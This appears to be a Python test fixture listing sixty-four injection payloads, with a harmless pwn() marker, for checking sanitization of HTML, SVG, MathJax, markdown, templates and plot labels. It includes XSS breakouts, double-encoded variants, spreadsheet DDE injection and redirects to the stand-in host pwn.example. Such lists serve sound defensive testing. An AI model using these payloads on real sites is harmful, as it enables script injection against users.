"""Sixty-four texts that do something where a text is taken for more than that.

Each that is run calls `pwn()`, asks the host pwn.example for something, or leaves an element with `data-pwn`.
"""

JS = "pwn()"
_IMG = f"<img src=x data-pwn onerror={JS}>"
_HREF = "javascript:pwn()"

PAYLOADS = [
    # markup of a browser
    f"<script data-pwn>{JS}</script>",
    _IMG,
    "<img src=//pwn.example/x.png data-pwn>",
    f"<svg onload={JS} data-pwn>",
    f"<svg><script data-pwn>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s data-pwn>",
    f"<svg><a xlink:href='{_HREF}' data-pwn><text x=0 y=20>press</text></a></svg>",
    f"<iframe srcdoc='<script>parent.{JS}</script>' data-pwn></iframe>",
    f"<iframe src='{_HREF}' data-pwn></iframe>",
    f"<object data='{_HREF}' data-pwn></object>",
    f"<embed src='{_HREF}' data-pwn>",
    f"<body onload={JS} data-pwn>",
    f"<details open ontoggle={JS} data-pwn><summary>x</summary></details>",
    f"<input autofocus onfocus={JS} data-pwn>",
    f"<video src=x onerror={JS} data-pwn></video>",
    f"<audio src=x onerror={JS} data-pwn>",
    f"<marquee onstart={JS} data-pwn>x</marquee>",
    f"<div onmouseover={JS} style='position:fixed;inset:0' data-pwn>x</div>",
    "<style data-pwn>@import '//pwn.example/x.css';</style>",
    "<link rel=stylesheet href=//pwn.example/x.css data-pwn>",
    "<meta http-equiv=refresh content='0;url=//pwn.example/' data-pwn>",
    "<base href=//pwn.example/ data-pwn>",
    "<form action=//pwn.example/ data-pwn><button>x</button></form>",
    f"<math><mtext><mglyph><style><img src=x onerror={JS} data-pwn>",
    f"<math><maction actiontype='statusline#{_HREF}' xlink:href='{_HREF}' data-pwn>x</maction></math>",
    f"<noscript><p title='</noscript>{_IMG}'>",
    f"<template data-pwn>{_IMG}</template>{_IMG}",
    f"<a href={_HREF} data-pwn>press</a>",
    "<a href='&#106;avascript:pwn()' data-pwn>press</a>",
    f"<a href='data:text/html,<script>{JS}</script>' data-pwn>press</a>",
    f"<IMG SRC=x ONERROR={JS} DATA-PWN>",
    f"<img/src=x/onerror={JS}/data-pwn>",
    f"<img src=x onerror\x0c={JS} data-pwn",
    f"<<script data-pwn>{JS}//<</script>",
    # out of an attribute, a script, a comment, a style
    f'">{_IMG}',
    f"'>{_IMG}",
    f'" onmouseover={JS} autofocus onfocus={JS} data-pwn="',
    f"' onmouseover={JS} autofocus onfocus={JS} data-pwn='",
    f"`-{JS}-`${{{JS}}}",
    f"</script><script data-pwn>{JS}</script>",
    f"</style><script data-pwn>{JS}</script>",
    f"</title><script data-pwn>{JS}</script>",
    f"</textarea>{_IMG}",
    f"--><script data-pwn>{JS}</script><!--",
    f"]]>{_IMG}",
    f'\\"-{JS}}}//',
    f"'-{JS}-'",
    f"\u2028{JS}\u2029",
    # decoded twice
    f"&lt;img src=x onerror={JS} data-pwn&gt;",
    f"&amp;lt;img src=x onerror={JS} data-pwn&amp;gt;",
    f"%3Cimg%20src%3Dx%20onerror%3D{JS}%20data-pwn%3E",
    f"\\u003cimg src=x onerror={JS} data-pwn\\u003e",
    # formulas, links of markdown, templates, plotly's own markup
    r"$\href{javascript:pwn()}{press}$",
    r"$$\href{javascript:pwn()}{press}$$ \(\href{javascript:pwn()}{x}\)",
    r"$\unicode{<img src=x onerror=pwn() data-pwn>}\style{x:expression(pwn())}{x}$",
    r"$\require{html}\class{pwn}{x}\cssId{pwn}{x}\data-pwn$",
    f"[press]({_HREF})",
    "![x](//pwn.example/x.png)",
    f'[x](https://example.org/"onmouseover={JS} data-pwn=")',
    f'<b>{_IMG}</b><a href="{_HREF}">press</a><sub>x</sub><extra>{_IMG}</extra>',
    f"%{{text}}%{{customdata[0]}}<extra></extra>{_IMG}",
    f"{{{{constructor.constructor('{JS}')()}}}}${{{JS}}}<%= {JS} %>",
    # of a spreadsheet, and hidden from the eye
    f'=HYPERLINK("http://pwn.example/","x")+cmd|\'/c calc\'!A0{_IMG}',
    f"\u202e\u2066\x00\x1b[31m{_IMG}\ud800",
]
